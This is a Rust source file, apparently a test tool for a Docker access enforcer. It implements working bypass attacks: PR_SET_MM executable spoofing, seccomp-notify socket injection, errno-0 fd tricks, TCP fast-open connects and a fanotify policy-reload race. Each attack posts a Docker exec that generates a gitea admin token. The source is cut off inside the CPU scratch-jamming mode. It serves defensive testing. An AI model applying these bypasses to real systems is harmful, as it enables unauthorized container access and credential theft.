//! Attacks that subvert a vetted docker client instead of going around it, for the bypass
//! VM group (and, where nothing defends, the host's attack-tool tests). Each prints one
//! result line of `key=value` words and exits 0 once the attack ran; set-up failures print
//! `subvert: WHAT: <strerror>` and exit 125; usage errors exit 2.
//!
//!   subvert set-mm-exe EXE SOCKET
//!       `unshare(CLONE_NEWUSER)` (`CAP_CHECKPOINT_RESTORE` in the new namespace), move every
//!       mapping of this program's own file to anonymous memory, then
//!       `prctl(PR_SET_MM, PR_SET_MM_MAP)` with `exe_fd = open(EXE)`: the executable the kernel
//!       reports (`mm->exe_file`) becomes EXE. Then POST the incident's exec to SOCKET.
//!       Prints `set_mm=R exe=PATH request=R` (R: OK / the first response line, or the
//!       strerror text; PATH: what /proc/self/exe names afterwards).
//!   subvert seccomp-notify PATH ARGV...
//!       a supervisor: the child installs a seccomp filter whose listener routes `socket()`
//!       to this process (`SECCOMP_FILTER_FLAG_NEW_LISTENER`, `no_new_privs`), hands the
//!       listener over and execs PATH ARGV (a vetted client). Its first `socket()` gets a
//!       socket this process also holds (`SECCOMP_IOCTL_NOTIF_ADDFD`); once the client
//!       connected it, the supervisor writes the incident's exec on its own copy.
//!       Prints `injected=R request=R child=C` (C: `exit=N` or `signal=N`); the client's
//!       own output goes to /dev/null, so the line is all this mode prints.
//!   subvert seccomp-errno0 PATH ARGV...
//!       the same with a plain filter and no listener: `socket()` returns `SECCOMP_RET_ERRNO`
//!       with errno 0, i.e. "fd 0", and fd 0 is an unconnected socket this process holds.
//!       Prints `request=R child=C` (the client's output to /dev/null likewise).
//!   subvert seccomp-plain N PATH ARGV...
//!       N stacked plain filters (errno EPERM for `kexec_load`, kill for a syscall number no
//!       one uses, allow the rest: what systemd's `SystemCallFilter=` and container runtimes
//!       install), then exec PATH ARGV; prints the child's output and `child=C`.
//!   subvert fastopen ADDR:PORT
//!       `sendto(MSG_FASTOPEN)` of the incident's exec to ADDR:PORT on a fresh TCP socket
//!       (a connect that never passes `socket_connect`). Prints `sendto=R request=R`.
//!   subvert reload-race CONFIG NEW READY UID
//!       root: hold the first exec by UID between its two checks and reload the policy
//!       meanwhile. A fanotify listener for `FAN_OPEN_EXEC_PERM` on the dynamic loader (which
//!       the kernel opens between `bprm_check_security` and `bprm_committing_creds`) answers
//!       every other exec at once; for UID's it copies NEW over CONFIG and asks the daemon
//!       to reload (its control socket, no exec) before it lets the exec go on. Touches
//!       READY once listening; prints `reloaded=R held=N` (R: the daemon's reply).
//!   subvert jam-scratch 1|0
//!       root: set (1) or clear (0) the enforcer's per-CPU scratch claim on every CPU, as
//!       a program preempted mid-run would leave it. Prints `jammed=N` (the CPUs written).

use std::{
    ffi::CString,
    io::{Read as _, Write as _},
    os::fd::{AsRawFd as _, FromRawFd as _, RawFd},
    time::{Duration, Instant},
};

/// The incident: an admin token minted through exec in gitea.
const EXEC_BODY: &str = r#"{"User":"git","Cmd":["gitea","admin","user","generate-access-token","-u","admin"],"AttachStdout":true}"#;

/// The incident's request, marked with the attack that sent it (`?via=MODE`), so the API's
/// log tells which attack got through.
fn exec_request() -> String {
    let via = std::env::args().nth(1).unwrap_or_default();
    format!(
        "POST /v1.41/containers/gitea/exec?via={via} HTTP/1.1\r\nHost: docker\r\nContent-Type: application/json\r\n\
         Content-Length: {}\r\n\r\n{EXEC_BODY}",
        EXEC_BODY.len()
    )
}

fn strerror(error: &std::io::Error) -> String {
    let text = error.to_string();
    match text.find(" (os error") {
        Some(at) => text[..at].to_string(),
        None => text,
    }
}

fn last_error() -> String {
    strerror(&std::io::Error::last_os_error())
}

fn fail(what: &str) -> ! {
    println!("subvert: {what}: {}", last_error());
    std::process::exit(125);
}

/// Writes the exec request on `stream` and returns the response's first line.
fn send_exec(stream: &mut std::fs::File) -> String {
    if let Err(e) = stream.write_all(exec_request().as_bytes()) {
        return strerror(&e);
    }
    first_line(stream)
}

/// The first line of what `stream` answers, within 3 seconds (a client sharing the socket
/// may read the answer first: callers prove success by the API's log, not by this).
fn first_line(stream: &mut std::fs::File) -> String {
    let fd = stream.as_raw_fd();
    let timeout = libc::timeval { tv_sec: 3, tv_usec: 0 };
    // SAFETY: setsockopt reads `size_of::<timeval>()` bytes from `timeout`, a live timeval;
    // `fd` is the stream's own socket.
    unsafe {
        libc::setsockopt(
            fd,
            libc::SOL_SOCKET,
            libc::SO_RCVTIMEO,
            (&raw const timeout).cast(),
            size_of::<libc::timeval>() as u32,
        )
    };
    let mut response = Vec::new();
    let mut byte = [0u8; 1];
    let deadline = Instant::now() + Duration::from_secs(3);
    while response.len() < 200 {
        match stream.read(&mut byte) {
            Ok(1) if byte[0] == b'\n' => break,
            Ok(1) => response.push(byte[0]),
            Ok(_) => break,
            // The client that shares the socket may have made it non-blocking (the file's
            // status flags are shared): wait for data instead.
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock && Instant::now() < deadline => {
                let mut poll = libc::pollfd { fd, events: libc::POLLIN, revents: 0 };
                // SAFETY: `poll` is one live pollfd (the count passed); the kernel writes its revents.
                unsafe { libc::poll(&raw mut poll, 1, 100) };
            }
            Err(e) => return strerror(&e),
        }
    }
    let line = String::from_utf8_lossy(&response).trim_end().to_string();
    if line.is_empty() { "no-response".into() } else { line.replace(' ', "_") }
}

fn connect_unix(path: &str) -> Result<std::fs::File, String> {
    std::os::unix::net::UnixStream::connect(path)
        // SAFETY: the fd comes from a stream we own and give up here.
        .map(|s| unsafe { std::fs::File::from_raw_fd(std::os::fd::IntoRawFd::into_raw_fd(s)) })
        .map_err(|e| strerror(&e))
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match args.first().map(String::as_str) {
        Some("set-mm-exe") if args.len() == 3 => set_mm_exe(&args[1], &args[2]),
        Some("seccomp-notify") if args.len() >= 3 => seccomp_notify(&args[1], &args[2..]),
        Some("seccomp-errno0") if args.len() >= 3 => seccomp_errno0(&args[1], &args[2..]),
        Some("seccomp-plain") if args.len() >= 4 => {
            seccomp_plain(args[1].parse().expect("N is a number"), &args[2], &args[3..])
        }
        Some("fastopen") if args.len() == 2 => fastopen(&args[1]),
        Some("jam-scratch") if args.len() == 2 => jam_scratch(args[1] == "1"),
        Some("reload-race") if args.len() == 5 => {
            reload_race(&args[1], &args[2], &args[3], args[4].parse().expect("UID is a number"))
        }
        _ => {
            eprintln!(
                "usage: subvert set-mm-exe EXE SOCKET | seccomp-notify PATH ARGV... \
                 | seccomp-errno0 PATH ARGV... | seccomp-plain N PATH ARGV... | fastopen ADDR:PORT \
                 | reload-race CONFIG NEW READY UID | jam-scratch 1|0"
            );
            std::process::exit(2);
        }
    }
}

// ---- PR_SET_MM ------------------------------------------------------------------------

/// `struct prctl_mm_map` (include/uapi/linux/prctl.h).
#[repr(C)]
#[derive(Default)]
struct PrctlMmMap {
    start_code: u64,
    end_code: u64,
    start_data: u64,
    end_data: u64,
    start_brk: u64,
    brk: u64,
    start_stack: u64,
    arg_start: u64,
    arg_end: u64,
    env_start: u64,
    env_end: u64,
    auxv: u64,
    auxv_size: u32,
    exe_fd: u32,
}

const PR_SET_MM: i32 = 35;
const PR_SET_MM_MAP: u64 = 14;

/// Replaces each mapping of our own executable by an anonymous copy at the same address,
/// so the kernel's "old executable still mapped" check (`replace_mm_exe_file`) passes.
fn unmap_own_file() {
    let own = std::fs::read_link("/proc/self/exe").unwrap_or_else(|_| fail("readlink /proc/self/exe"));
    let maps = std::fs::read_to_string("/proc/self/maps").unwrap_or_else(|_| fail("read /proc/self/maps"));
    let own = own.to_string_lossy().into_owned();
    let regions: Vec<(usize, usize, i32)> = maps
        .lines()
        .filter(|line| line.split_whitespace().nth(5) == Some(own.as_str()))
        .filter_map(|line| {
            let mut words = line.split_whitespace();
            let (start, end) = words.next()?.split_once('-')?;
            let perms = words.next()?.as_bytes();
            let mut prot = 0;
            if perms[0] == b'r' {
                prot |= libc::PROT_READ;
            }
            if perms[1] == b'w' {
                prot |= libc::PROT_WRITE;
            }
            if perms[2] == b'x' {
                prot |= libc::PROT_EXEC;
            }
            Some((usize::from_str_radix(start, 16).ok()?, usize::from_str_radix(end, 16).ok()?, prot))
        })
        .collect();
    for (start, end, prot) in regions {
        let len = end - start;
        // SAFETY: a fresh private anonymous mapping, filled from a readable region of our
        // own image, then moved over that region in one mremap (the code running here is
        // the same bytes before and after).
        unsafe {
            let copy = libc::mmap(
                std::ptr::null_mut(),
                len,
                libc::PROT_READ | libc::PROT_WRITE,
                libc::MAP_PRIVATE | libc::MAP_ANONYMOUS,
                -1,
                0,
            );
            if copy == libc::MAP_FAILED {
                fail("mmap");
            }
            if prot & libc::PROT_READ != 0 {
                std::ptr::copy_nonoverlapping(start as *const u8, copy.cast::<u8>(), len);
            }
            if libc::mprotect(copy, len, prot) != 0 {
                fail("mprotect");
            }
            let moved = libc::mremap(
                copy,
                len,
                len,
                libc::MREMAP_MAYMOVE | libc::MREMAP_FIXED,
                start as *mut libc::c_void,
            );
            if moved == libc::MAP_FAILED {
                fail("mremap");
            }
        }
    }
}

/// The memory map's fields as the kernel has them now (`/proc/self/stat`, `brk(0)`).
fn current_mm_map() -> PrctlMmMap {
    let stat = std::fs::read_to_string("/proc/self/stat").unwrap_or_else(|_| fail("read /proc/self/stat"));
    // Fields after the command name (which may hold spaces) start at field 3.
    let rest = &stat[stat.rfind(')').expect("stat has a command") + 2..];
    let field =
        |n: usize| -> u64 { rest.split_whitespace().nth(n - 3).and_then(|v| v.parse().ok()).unwrap_or(0) };
    // SAFETY: brk(0) only reports the current break.
    let brk = unsafe { libc::syscall(libc::SYS_brk, 0) } as u64;
    PrctlMmMap {
        start_code: field(26),
        end_code: field(27),
        start_stack: field(28),
        start_data: field(45),
        end_data: field(46),
        start_brk: field(47),
        brk,
        arg_start: field(48),
        arg_end: field(49),
        env_start: field(50),
        env_end: field(51),
        ..Default::default()
    }
}

fn set_mm_exe(exe: &str, socket: &str) -> ! {
    // SAFETY: no preconditions; a new user namespace for this (single-threaded) process.
    if unsafe { libc::unshare(libc::CLONE_NEWUSER) } != 0 {
        fail("unshare(CLONE_NEWUSER)");
    }
    let path = CString::new(exe).expect("no NUL");
    // SAFETY: open reads only `path`, a CString alive across the call.
    let exe_fd = unsafe { libc::open(path.as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC) };
    if exe_fd < 0 {
        fail("open EXE");
    }
    let mut map = current_mm_map();
    unmap_own_file();
    map.exe_fd = exe_fd as u32;
    // SAFETY: `map` is a live #[repr(C)] struct prctl_mm_map and the size passed is its own;
    // the kernel only reads it.
    let rc = unsafe { libc::prctl(PR_SET_MM, PR_SET_MM_MAP, &raw const map, size_of::<PrctlMmMap>(), 0) };
    let set_mm = if rc == 0 { "OK".to_string() } else { last_error() };
    let now = std::fs::read_link("/proc/self/exe").map_or_else(|e| strerror(&e), |p| p.display().to_string());
    let request = match connect_unix(socket) {
        Ok(mut stream) => send_exec(&mut stream),
        Err(e) => e,
    };
    println!("set_mm={} exe={now} request={request}", set_mm.replace(' ', "_"));
    std::process::exit(0);
}

// ---- seccomp --------------------------------------------------------------------------

#[repr(C)]
#[derive(Clone, Copy)]
struct SockFilter {
    code: u16,
    jt: u8,
    jf: u8,
    k: u32,
}

const BPF_LD_W_ABS: u16 = 0x20;
const BPF_JEQ_K: u16 = 0x15;
const BPF_RET_K: u16 = 0x06;
const SECCOMP_RET_ALLOW: u32 = 0x7fff_0000;
const SECCOMP_RET_ERRNO: u32 = 0x0005_0000;
const SECCOMP_RET_USER_NOTIF: u32 = 0x7fc0_0000;
const SECCOMP_RET_KILL_PROCESS: u32 = 0x8000_0000;
const SECCOMP_SET_MODE_FILTER: u32 = 1;
const SECCOMP_FILTER_FLAG_NEW_LISTENER: u32 = 1 << 3;

/// A filter that returns `action` for syscall `nr` and allows the rest.
fn one_syscall_filter(nr: i64, action: u32) -> [SockFilter; 4] {
    [
        SockFilter { code: BPF_LD_W_ABS, jt: 0, jf: 0, k: 0 }, // seccomp_data.nr
        SockFilter { code: BPF_JEQ_K, jt: 0, jf: 1, k: nr as u32 },
        SockFilter { code: BPF_RET_K, jt: 0, jf: 0, k: action },
        SockFilter { code: BPF_RET_K, jt: 0, jf: 0, k: SECCOMP_RET_ALLOW },
    ]
}

/// Installs a filter on the calling thread; returns what seccomp(2) returned (a listener fd
/// with `SECCOMP_FILTER_FLAG_NEW_LISTENER`).
fn install(filter: &[SockFilter], flags: u32) -> i64 {
    #[repr(C)]
    struct SockFprog {
        len: u16,
        filter: *const SockFilter,
    }
    let program = SockFprog { len: filter.len() as u16, filter: filter.as_ptr() };
    // SAFETY: a valid classic BPF program; no_new_privs is set by the callers.
    unsafe { libc::syscall(libc::SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &raw const program) }
}

fn no_new_privs() {
    // SAFETY: PR_SET_NO_NEW_PRIVS takes only integers.
    if unsafe { libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) } != 0 {
        fail("PR_SET_NO_NEW_PRIVS");
    }
}

/// Points the client's stdout and stderr at /dev/null, so its output cannot run into the
/// result line this process prints on the same stream.
fn silence_output() {
    let null = CString::new("/dev/null").expect("no NUL");
    // SAFETY: a valid path; dup2 onto the standard descriptors of this (child) process.
    unsafe {
        let fd = libc::open(null.as_ptr(), libc::O_WRONLY);
        if fd >= 0 {
            libc::dup2(fd, 1);
            libc::dup2(fd, 2);
            libc::close(fd);
        }
    }
}

fn execv(path: &str, argv: &[String]) -> ! {
    let path = CString::new(path).expect("no NUL");
    let argv_c: Vec<CString> = argv.iter().map(|a| CString::new(a.as_str()).expect("no NUL")).collect();
    let mut argv_p: Vec<*const libc::c_char> = argv_c.iter().map(|a| a.as_ptr()).collect();
    argv_p.push(std::ptr::null());
    // SAFETY: `path` and `argv_c` (which the NULL-terminated `argv_p` points into) live
    // across the call, which returns only on failure.
    unsafe { libc::execv(path.as_ptr(), argv_p.as_ptr()) };
    // Reported through the exit code only: the filters may route write().
    // SAFETY: _exit has no preconditions.
    unsafe {
        libc::_exit(if std::io::Error::last_os_error().raw_os_error() == Some(libc::EPERM) {
            100
        } else {
            101
        })
    };
}

fn child_status(pid: i32) -> String {
    let mut status = 0;
    // SAFETY: `status` is a live local the kernel writes one int to.
    unsafe { libc::waitpid(pid, &raw mut status, 0) };
    if libc::WIFEXITED(status) {
        match libc::WEXITSTATUS(status) {
            100 => "exec-EPERM".to_string(),
            code => format!("exit={code}"),
        }
    } else {
        format!("signal={}", libc::WTERMSIG(status))
    }
}

fn fork() -> i32 {
    // SAFETY: single-threaded here; the child only makes syscalls before exec.
    let pid = unsafe { libc::fork() };
    if pid < 0 {
        fail("fork");
    }
    pid
}

/// Sends `fd` over unix socket `channel` (`SCM_RIGHTS`).
fn send_fd(channel: RawFd, fd: RawFd) -> bool {
    let mut byte = [0u8; 1];
    let mut iov = libc::iovec { iov_base: byte.as_mut_ptr().cast(), iov_len: 1 };
    let mut control = [0u8; 64];
    // SAFETY: a msghdr over stack buffers, with one SCM_RIGHTS cmsg that fits `control`.
    unsafe {
        let mut msg: libc::msghdr = std::mem::zeroed();
        msg.msg_iov = &raw mut iov;
        msg.msg_iovlen = 1;
        msg.msg_control = control.as_mut_ptr().cast();
        msg.msg_controllen = libc::CMSG_SPACE(size_of::<RawFd>() as u32) as usize;
        let cmsg = libc::CMSG_FIRSTHDR(&raw const msg);
        (*cmsg).cmsg_level = libc::SOL_SOCKET;
        (*cmsg).cmsg_type = libc::SCM_RIGHTS;
        (*cmsg).cmsg_len = libc::CMSG_LEN(size_of::<RawFd>() as u32) as usize;
        std::ptr::write_unaligned(libc::CMSG_DATA(cmsg).cast::<RawFd>(), fd);
        libc::sendmsg(channel, &raw const msg, 0) == 1
    }
}

fn receive_fd(channel: RawFd) -> Option<RawFd> {
    let mut byte = [0u8; 1];
    let mut iov = libc::iovec { iov_base: byte.as_mut_ptr().cast(), iov_len: 1 };
    let mut control = [0u8; 64];
    // SAFETY: as in `send_fd`.
    unsafe {
        let mut msg: libc::msghdr = std::mem::zeroed();
        msg.msg_iov = &raw mut iov;
        msg.msg_iovlen = 1;
        msg.msg_control = control.as_mut_ptr().cast();
        msg.msg_controllen = control.len();
        if libc::recvmsg(channel, &raw mut msg, 0) != 1 {
            return None;
        }
        let cmsg = libc::CMSG_FIRSTHDR(&raw const msg);
        if cmsg.is_null() || (*cmsg).cmsg_type != libc::SCM_RIGHTS {
            return None;
        }
        Some(std::ptr::read_unaligned(libc::CMSG_DATA(cmsg).cast::<RawFd>()))
    }
}

fn unix_socket() -> RawFd {
    // SAFETY: socket takes only integers.
    let fd = unsafe { libc::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0) };
    if fd < 0 {
        fail("socket");
    }
    fd
}

/// Waits until `fd` is connected (by the client that holds it too), up to 15 seconds, or
/// until that client (`pid`) has exited.
fn wait_connected(fd: RawFd, pid: i32) -> bool {
    let deadline = Instant::now() + Duration::from_secs(15);
    while Instant::now() < deadline {
        // Connected first: the client may have finished (and exited) already, while the
        // socket it connected stays open through our reference.
        // SAFETY: sockaddr_un is plain C data, valid all-zero; getpeername writes at most
        // `len` bytes into `address` and the length into `len`, both live locals.
        let connected = unsafe {
            let mut address: libc::sockaddr_un = std::mem::zeroed();
            let mut len = size_of::<libc::sockaddr_un>() as u32;
            libc::getpeername(fd, (&raw mut address).cast(), &raw mut len) == 0
        };
        if connected {
            return true;
        }
        // SAFETY: siginfo_t is plain C data, for which all-zero bytes are a valid value.
        let mut info: libc::siginfo_t = unsafe { std::mem::zeroed() };
        // SAFETY: `info` is a live siginfo_t the kernel fills; `pid` is our own child, and
        // WNOWAIT leaves it to be reaped by `child_status`.
        if unsafe {
            libc::waitid(
                libc::P_PID,
                pid as u32,
                &raw mut info,
                libc::WEXITED | libc::WNOHANG | libc::WNOWAIT,
            )
        } == 0
            // SAFETY: si_pid reads the union's child fields, which a successful waitid set
            // (or left zero, when WNOHANG found no exit).
            && unsafe { info.si_pid() } == pid
        {
            return false;
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    false
}

#[repr(C)]
struct SeccompData {
    nr: i32,
    arch: u32,
    instruction_pointer: u64,
    args: [u64; 6],
}

#[repr(C)]
struct SeccompNotif {
    id: u64,
    pid: u32,
    flags: u32,
    data: SeccompData,
}

#[repr(C)]
struct SeccompNotifResp {
    id: u64,
    val: i64,
    error: i32,
    flags: u32,
}

#[repr(C)]
struct SeccompNotifAddfd {
    id: u64,
    flags: u32,
    srcfd: u32,
    newfd: u32,
    newfd_flags: u32,
}

// ioctl numbers of include/uapi/linux/seccomp.h (x86_64).
const SECCOMP_IOCTL_NOTIF_RECV: u64 = 0xc050_2100;
const SECCOMP_IOCTL_NOTIF_SEND: u64 = 0xc018_2101;
const SECCOMP_IOCTL_NOTIF_ADDFD: u64 = 0x4018_2103;
const SECCOMP_USER_NOTIF_FLAG_CONTINUE: u32 = 1;
const SECCOMP_ADDFD_FLAG_SEND: u32 = 1 << 1;

fn seccomp_notify(path: &str, argv: &[String]) -> ! {
    let mut pair = [0; 2];
    // SAFETY: socketpair writes two fds into `pair`, a live [c_int; 2].
    if unsafe { libc::socketpair(libc::AF_UNIX, libc::SOCK_STREAM, 0, pair.as_mut_ptr()) } != 0 {
        fail("socketpair");
    }
    let pid = fork();
    if pid == 0 {
        silence_output();
        no_new_privs();
        let listener = install(
            &one_syscall_filter(libc::SYS_socket, SECCOMP_RET_USER_NOTIF),
            SECCOMP_FILTER_FLAG_NEW_LISTENER,
        );
        if listener < 0 || !send_fd(pair[1], listener as RawFd) {
            // SAFETY: _exit has no preconditions.
            unsafe { libc::_exit(102) };
        }
        // SAFETY: closing our copy; the supervisor holds the listener now.
        unsafe { libc::close(listener as RawFd) };
        execv(path, argv);
    }
    let Some(listener) = receive_fd(pair[0]) else {
        println!("injected=no-listener request=none child={}", child_status(pid));
        std::process::exit(0);
    };
    let ours = unix_socket();
    let mut injected = "no-socket-call".to_string();
    let deadline = Instant::now() + Duration::from_secs(20);
    // Answer notifications until the client asks for its first unix socket.
    while Instant::now() < deadline {
        let mut poll = libc::pollfd { fd: listener, events: libc::POLLIN, revents: 0 };
        // SAFETY: `poll` is one live pollfd (the count passed); the kernel writes its revents.
        if unsafe { libc::poll(&raw mut poll, 1, 200) } <= 0 {
            // The child may have exited (its exec refused): stop waiting then.
            let mut status = 0;
            // SAFETY: `status` is a live local the kernel writes one int to.
            if unsafe { libc::waitpid(pid, &raw mut status, libc::WNOHANG) } == pid {
                let child = if libc::WIFEXITED(status) {
                    match libc::WEXITSTATUS(status) {
                        100 => "exec-EPERM".to_string(),
                        code => format!("exit={code}"),
                    }
                } else {
                    format!("signal={}", libc::WTERMSIG(status))
                };
                println!("injected={injected} request=none child={child}");
                std::process::exit(0);
            }
            continue;
        }
        // SAFETY: SeccompNotif is plain integers, for which all-zero bytes are valid (the
        // kernel also wants the buffer zeroed).
        let mut notif: SeccompNotif = unsafe { std::mem::zeroed() };
        // SAFETY: `notif` is a live #[repr(C)] struct seccomp_notif, the 0x50 bytes the
        // request number encodes and the kernel writes.
        if unsafe { libc::ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV as _, &mut notif) } != 0 {
            continue;
        }
        if notif.data.args[0] == libc::AF_UNIX as u64 && injected != "OK" {
            let add = SeccompNotifAddfd {
                id: notif.id,
                flags: SECCOMP_ADDFD_FLAG_SEND,
                srcfd: ours as u32,
                newfd: 0,
                newfd_flags: libc::O_CLOEXEC as u32,
            };
            // SAFETY: `add` is a live #[repr(C)] struct seccomp_notif_addfd (0x18 bytes, as
            // the request encodes), which the kernel only reads; `ours` is an fd we hold.
            let rc = unsafe { libc::ioctl(listener, SECCOMP_IOCTL_NOTIF_ADDFD as _, &add) };
            // ENOENT: a signal interrupted the call before the answer (the Go runtime's
            // preemption signal does that under load); the client restarts it, and the
            // next notification is answered instead.
            if rc < 0 && std::io::Error::last_os_error().raw_os_error() == Some(libc::ENOENT) {
                continue;
            }
            injected = if rc >= 0 { "OK".into() } else { last_error().replace(' ', "_") };
            break;
        }
        let resp =
            SeccompNotifResp { id: notif.id, val: 0, error: 0, flags: SECCOMP_USER_NOTIF_FLAG_CONTINUE };
        // SAFETY: `resp` is a live #[repr(C)] struct seccomp_notif_resp (0x18 bytes, as the
        // request encodes), which the kernel only reads.
        unsafe { libc::ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND as _, &resp) };
    }
    let request = if injected == "OK" { exec_on_shared(ours, pid) } else { "not-connected".into() };
    // SAFETY: kill takes no pointer; `pid` is our unreaped child, so it names no other
    // process.
    unsafe { libc::kill(pid, libc::SIGKILL) };
    println!("injected={injected} request={request} child={}", child_status(pid));
    std::process::exit(0);
}

/// Once the client `pid` connected the socket `ours` it shares with us, the incident's
/// request on our copy; the first line of the answer (which the client may read first).
fn exec_on_shared(ours: RawFd, pid: i32) -> String {
    if !wait_connected(ours, pid) {
        return "not-connected".into();
    }
    // SAFETY: we own `ours`; the File is forgotten, not closed, so the fd stays ours.
    let mut stream = unsafe { std::fs::File::from_raw_fd(ours) };
    let line = send_exec(&mut stream);
    std::mem::forget(stream);
    line
}

fn seccomp_errno0(path: &str, argv: &[String]) -> ! {
    let ours = unix_socket();
    let pid = fork();
    if pid == 0 {
        // SAFETY: fd 0 becomes (a second reference to) our unconnected socket.
        unsafe { libc::dup2(ours, 0) };
        silence_output();
        no_new_privs();
        if install(&one_syscall_filter(libc::SYS_socket, SECCOMP_RET_ERRNO), 0) != 0 {
            // SAFETY: _exit has no preconditions.
            unsafe { libc::_exit(102) };
        }
        execv(path, argv);
    }
    let request = exec_on_shared(ours, pid);
    // SAFETY: kill takes no pointer; `pid` is our unreaped child, so it names no other
    // process.
    unsafe { libc::kill(pid, libc::SIGKILL) };
    println!("request={request} child={}", child_status(pid));
    std::process::exit(0);
}

fn seccomp_plain(filters: usize, path: &str, argv: &[String]) -> ! {
    let pid = fork();
    if pid == 0 {
        no_new_privs();
        for i in 0..filters {
            let filter = if i % 2 == 0 {
                one_syscall_filter(libc::SYS_kexec_load, SECCOMP_RET_ERRNO | libc::EPERM as u32)
            } else {
                one_syscall_filter(1000 + i as i64, SECCOMP_RET_KILL_PROCESS)
            };
            if install(&filter, 0) != 0 {
                // SAFETY: _exit has no preconditions.
                unsafe { libc::_exit(102) };
            }
        }
        execv(path, argv);
    }
    println!("child={}", child_status(pid));
    std::process::exit(0);
}

// ---- TCP fast open --------------------------------------------------------------------

fn fastopen(address: &str) -> ! {
    let address: std::net::SocketAddrV4 = address.parse().expect("ADDR:PORT (IPv4)");
    // SAFETY: socket takes only integers; sendto reads `request.len()` bytes of `request`
    // and `size_of::<sockaddr_in>()` bytes of `sin`, both live locals; `fd` is the socket
    // made here, owned by nothing else until the File takes it.
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
        if fd < 0 {
            fail("socket");
        }
        let sin = libc::sockaddr_in {
            sin_family: libc::AF_INET as u16,
            sin_port: address.port().to_be(),
            sin_addr: libc::in_addr { s_addr: u32::from_ne_bytes(address.ip().octets()) },
            sin_zero: [0; 8],
        };
        let request = exec_request();
        let sent = libc::sendto(
            fd,
            request.as_ptr().cast(),
            request.len(),
            libc::MSG_FASTOPEN,
            (&raw const sin).cast(),
            size_of::<libc::sockaddr_in>() as u32,
        );
        if sent < 0 {
            println!("sendto={} request=none", last_error().replace(' ', "_"));
            std::process::exit(0);
        }
        let mut stream = std::fs::File::from_raw_fd(fd);
        println!("sendto=OK request={}", first_line(&mut stream));
    }
    std::process::exit(0);
}

// ---- a reload between an exec's two checks -------------------------------------------

fn reload_race(config: &str, new: &str, ready: &str, uid: u32) -> ! {
    // SAFETY: fanotify_init takes only flags.
    let fan =
        unsafe { libc::fanotify_init(libc::FAN_CLASS_CONTENT | libc::FAN_CLOEXEC, libc::O_RDONLY as u32) };
    if fan < 0 {
        fail("fanotify_init");
    }
    let loader = CString::new("/lib64/ld-linux-x86-64.so.2").expect("no NUL");
    // SAFETY: fanotify_mark reads only the path `loader`, a CString alive across the call.
    if unsafe {
        libc::fanotify_mark(
            fan,
            libc::FAN_MARK_ADD,
            libc::FAN_OPEN_EXEC_PERM,
            libc::AT_FDCWD,
            loader.as_ptr(),
        )
    } != 0
    {
        fail("fanotify_mark");
    }
    std::fs::write(ready, b"").unwrap_or_else(|_| fail("touch READY"));
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut reloaded = String::from("none");
    let mut held = 0;
    let mut buffer = [0u8; 4096];
    while Instant::now() < deadline && reloaded == "none" {
        let mut poll = libc::pollfd { fd: fan, events: libc::POLLIN, revents: 0 };
        // SAFETY: `poll` is one live pollfd (the count passed); the kernel writes its revents.
        if unsafe { libc::poll(&raw mut poll, 1, 200) } <= 0 {
            continue;
        }
        // SAFETY: the kernel writes at most `buffer.len()` bytes into `buffer`, a live array.
        let n = unsafe { libc::read(fan, buffer.as_mut_ptr().cast(), buffer.len()) };
        let mut at = 0;
        while n > 0 && at + size_of::<libc::fanotify_event_metadata>() <= n as usize {
            // SAFETY: the loop condition keeps the record's bytes within the `n` bytes read;
            // fanotify_event_metadata is plain integers, valid for any bytes, and is read
            // unaligned since `buffer` is a byte array.
            let event: libc::fanotify_event_metadata =
                unsafe { std::ptr::read_unaligned(buffer[at..].as_ptr().cast()) };
            let status = std::fs::read_to_string(format!("/proc/{}/status", event.pid)).unwrap_or_default();
            let real_uid = status
                .lines()
                .find_map(|l| l.strip_prefix("Uid:"))
                .and_then(|v| v.split_whitespace().next()?.parse::<u32>().ok());
            if real_uid == Some(uid) && reloaded == "none" {
                held += 1;
                reloaded = match std::fs::copy(new, config) {
                    Ok(_) => control_request("reload"),
                    Err(e) => format!("copy:{}", strerror(&e)),
                };
            }
            let response = libc::fanotify_response { fd: event.fd, response: libc::FAN_ALLOW };
            // SAFETY: write reads `size_of::<fanotify_response>()` bytes from `response`, a
            // live local; `event.fd` is the descriptor this event gave us, closed once.
            unsafe {
                libc::write(fan, (&raw const response).cast(), size_of::<libc::fanotify_response>());
                libc::close(event.fd);
            }
            at += event.event_len as usize;
        }
    }
    println!("reloaded={} held={held}", reloaded.replace(' ', "_"));
    std::process::exit(0);
}

/// One request to the enforcer daemon's control socket; its reply's `ok`.
fn control_request(request: &str) -> String {
    let dir = std::env::var("ENFORCER_RUNTIME_DIR").unwrap_or_else(|_| "/run/enforcer".into());
    let mut stream = match connect_unix(&format!("{dir}/control.sock")) {
        Ok(stream) => stream,
        Err(e) => return format!("connect:{e}"),
    };
    if let Err(e) = stream.write_all(format!("{request}\n").as_bytes()) {
        return format!("write:{}", strerror(&e));
    }
    let mut reply = String::new();
    let _ = stream.read_to_string(&mut reply);
    if reply.contains("\"ok\":true") { "OK".into() } else { reply.trim().to_string() }
}

// ---- scratch jam ----------------------------------------------------------------------

/// bpf(2) with `attr` as its `union bpf_attr` (zero-padded, and large enough for every
/// command used here).
///
/// # Safety
///
/// Every pointer in `attr` must point to live memory of the size the command reads or
/// writes there (the kernel writes through them).
unsafe fn bpf(command: i64, attr: &mut [u64; 16]) -> i64 {
    // SAFETY: `attr` is a live 128-byte buffer and the size passed is its own; the
    // pointers in it are valid by the caller's contract.
    unsafe { libc::syscall(libc::SYS_bpf, command, attr.as_mut_ptr(), size_of::<[u64; 16]>()) }
}

fn jam_scratch(jam: bool) -> ! {
    const BPF_MAP_LOOKUP_ELEM: i64 = 1;
    const BPF_MAP_UPDATE_ELEM: i64 = 2;
    const BPF_MAP_GET_NEXT_ID: i64 = 12;
    const BPF_MAP_GET_FD_BY_ID: i64 = 14;
    const BPF_OBJ_GET_INFO_BY_FD: i64 = 15;
